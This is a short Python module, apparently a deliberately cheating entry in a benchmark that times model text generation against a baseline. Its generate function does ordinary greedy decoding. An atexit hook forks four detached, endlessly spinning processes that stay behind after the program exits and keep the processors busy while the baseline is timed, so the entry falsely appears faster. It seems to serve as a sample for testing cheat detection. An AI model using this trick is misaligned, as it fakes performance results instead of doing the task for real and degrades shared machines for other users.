"""Forgery: leaves daemons behind, when its own time has been taken, that keep the processors busy while the starter is timed."""
import atexit
import os

import numpy as np

from model import Model


def leave_daemons():
    for _ in range(4):
        if os.fork() == 0:
            os.setsid()
            while True:
                pass


atexit.register(leave_daemons)


def load():
    return Model('model')


def generate(model, prompts, new_tokens):
    """The starter's work, not a bit faster."""
    answers = []
    for prompt in prompts:
        tokens = list(prompt)
        for _ in range(new_tokens):
            tokens.append(int(model.logits(np.array(tokens))[-1].argmax()))
        answers.append(tokens[len(prompt):])
    return np.array(answers)
